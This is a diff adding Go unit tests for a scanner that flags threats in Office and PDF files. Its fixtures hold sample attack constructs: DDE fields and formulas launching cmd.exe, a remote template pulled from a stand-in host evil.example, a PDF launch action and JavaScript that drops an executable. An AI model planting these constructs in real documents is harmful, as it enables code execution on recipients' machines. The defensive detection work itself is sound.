@@ -0,0 +1,115 @@
+package lib
+
+import (
+	"archive/zip"
+	"bytes"
+	"fmt"
+	"reflect"
+	"testing"
+)
+
+// buildZip returns a zip file of the given members
+func buildZip(t *testing.T, members map[string]string) []byte {
+	var buf bytes.Buffer
+	z := zip.NewWriter(&buf)
+	for name, content := range members {
+		w, err := z.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write([]byte(content))
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// buildPDF returns a PDF file of the given objects, numbered from 1, whose first one is the catalog
+func buildPDF(objects ...string) []byte {
+	var buf bytes.Buffer
+	buf.WriteString("%PDF-1.7\n")
+	offsets := make([]int, len(objects))
+	for i, obj := range objects {
+		offsets[i] = buf.Len()
+		fmt.Fprintf(&buf, "%d 0 obj\n%s\nendobj\n", i+1, obj)
+	}
+	xref := buf.Len()
+	fmt.Fprintf(&buf, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
+	for _, off := range offsets {
+		fmt.Fprintf(&buf, "%010d 00000 n \n", off)
+	}
+	fmt.Fprintf(&buf, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, xref)
+	return buf.Bytes()
+}
+
+func kinds(found []ThreatIndicator) map[string]int {
+	n := map[string]int{}
+	for _, f := range found {
+		n[f.Kind]++
+	}
+	return n
+}
+
+func TestScanOOXMLThreats(t *testing.T) {
+	data := buildZip(t, map[string]string{
+		"word/document.xml": `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>` +
+			`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>` +
+			`<w:r><w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr=" HYPERLINK &quot;http://example.com&quot; "/></w:p></w:body></w:document>`,
+		"word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>` +
+			`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://example.com" TargetMode="External"/></Relationships>`,
+		"xl/worksheets/sheet1.xml":           `<worksheet><sheetData><row><c r="A1"><f>cmd|'/c calc'!A1</f></c><c r="B1"><f>SUM(A1:A2)</f></c></row></sheetData></worksheet>`,
+		"xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
+		"word/activeX/activeX1.xml":          `<ax:ocx/>`,
+		"word/embeddings/package.zip":        "PK",
+	})
+	found, err := ScanOOXMLThreats(bytes.NewReader(data), int64(len(data)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]int{ThreatDDE: 3, ThreatExternalTemplate: 1, ThreatActiveX: 1, ThreatOLEObject: 1}
+	if got := kinds(found); !reflect.DeepEqual(got, want) {
+		t.Errorf("got %v, want %v", got, want)
+	}
+	for _, f := range found {
+		if f.Kind == ThreatDDE && f.Location == "xl/worksheets/sheet1.xml#A1" && f.Detail != "cmd|'/c calc'!A1" {
+			t.Errorf("DDE formula: %+v", f)
+		}
+	}
+}
+
+func TestScanPDFThreats(t *testing.T) {
+	data := buildPDF(
+		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(init) 5 0 R] >> >> >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		"<< /Type /Page /Parent 2 0 R /AA << /O << /S /Launch /F (calc.exe) >> >> >>",
+		"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
+		"<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'a.exe', nLaunch: 2}\\)) >>",
+	)
+	found, err := ScanPDFThreats(bytes.NewReader(data), int64(len(data)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := kinds(found)
+	for _, kind := range []string{ThreatPDFOpenAction, ThreatPDFJavaScript, ThreatPDFAdditionalActions} {
+		if got[kind] == 0 {
+			t.Errorf("no %s in %+v", kind, found)
+		}
+	}
+}
+
+func TestVBAThreats(t *testing.T) {
+	found := VBAThreats([]VBAProject{{
+		Location: "word/vbaProject.bin",
+		Modules:  []VBAModule{{Name: "ThisDocument"}, {Name: "Module1"}},
+		AutoExec: []VBAFlag{{Module: "ThisDocument", Keyword: "Document_Open"}},
+	}})
+	want := []ThreatIndicator{
+		{Kind: ThreatMacro, Location: "word/vbaProject.bin", Detail: "ThisDocument, Module1"},
+		{Kind: ThreatAutoExec, Location: "word/vbaProject.bin/ThisDocument", Detail: "Document_Open"},
+	}
+	if !reflect.DeepEqual(found, want) {
+		t.Errorf("got %+v, want %+v", found, want)
+	}
+}